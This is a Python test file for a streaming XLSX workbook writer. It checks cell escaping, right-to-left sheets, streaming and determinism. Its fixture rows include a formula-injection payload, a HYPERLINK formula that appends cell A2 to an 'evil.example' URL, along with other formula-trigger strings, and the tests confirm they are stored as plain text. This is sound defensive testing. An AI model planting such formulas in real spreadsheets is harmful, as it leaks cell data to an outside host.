"""The streamed XLSX writer (``tracker.core.xlsx``): a workbook that spreadsheet readers open,
written in pieces as its rows are read."""

import io
import zipfile

from openpyxl import load_workbook

from tracker.core import xlsx

ROWS = [
    ["name", "title", "latitude", "count", "note"],
    ["صحفية معروفة", "اعتقال مراسل في صنعاء & <عدن>", 15.3547, 3, None],
    ["Known Reporter", '=HYPERLINK("https://evil.example/?"&A2, "open")', -12.5, 0, ""],
    ["+1", "@x", "-2+3", "  spaced  ", "line\r\nbreak"],
]


def _body(rows, **options) -> bytes:
    return b"".join(xlsx.stream(rows, **options))


def _values(body: bytes, read_only: bool) -> list[tuple]:
    book = load_workbook(io.BytesIO(body), read_only=read_only)
    return [tuple(row) for row in book.worksheets[0].iter_rows(values_only=True)]


def test_the_workbook_opens_in_both_modes_with_every_cell_as_given():
    body = _body(ROWS, sheet_name="incidents", right_to_left=True)
    expected = [tuple(None if value == "" else value for value in row) for row in ROWS]
    assert _values(body, read_only=True) == _values(body, read_only=False) == expected
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["incidents"] and book.worksheets[0].sheet_view.rightToLeft
    assert not load_workbook(io.BytesIO(_body(ROWS))).worksheets[0].sheet_view.rightToLeft
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        assert package.testzip() is None
        assert set(package.namelist()) >= {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                                           "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"}  # fmt: skip


def test_formula_looking_text_stays_text():
    book = load_workbook(io.BytesIO(_body(ROWS)))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert {'=HYPERLINK("https://evil.example/?"&A2, "open")', "+1", "@x", "-2+3"} <= texts
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert numbers == [15.3547, 3, -12.5, 0]
    sheet = zipfile.ZipFile(io.BytesIO(_body(ROWS))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and 't="inlineStr"' in sheet


def test_characters_xml_cannot_hold_are_left_out_and_escapes_kept_literal():
    body = _body([["bell\x07 and\x00 nul\x1f", "tab\there", "_x0041_ stays", "\ufffeodd"]])
    assert _values(body, read_only=True) == [("bell and nul", "tab\there", "_x005F_x0041_ stays", "odd")]
    # openpyxl does not undo the _x005F_ escape of an inline string; spreadsheet programs do.
    sheet = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "_x005F_x0041_ stays" in sheet


def test_the_first_piece_comes_before_any_row_is_read():
    read = []

    def rows():
        for number in range(3000):
            read.append(number)
            yield [f"row {number}", number, "نص عربي " * 10]

    pieces = xlsx.stream(rows())
    first = next(pieces)
    assert first.startswith(b"PK") and read == []
    arrived = [len(read) for _piece in pieces]
    assert len(arrived) >= 2 and arrived[0] < 3000  # pieces come while rows are still being read
    assert xlsx.column_name(0) == "A" and xlsx.column_name(25) == "Z" and xlsx.column_name(26) == "AA"
    assert xlsx.column_name(32) == "AG" and xlsx.column_name(701) == "ZZ" and xlsx.column_name(702) == "AAA"


def test_the_same_rows_give_the_same_bytes():
    assert _body(ROWS) == _body(ROWS)


def test_a_sheet_name_is_escaped_as_an_attribute():
    name = 'x "&<y>'
    assert load_workbook(io.BytesIO(_body([["a"]], sheet_name=name))).sheetnames == [name]
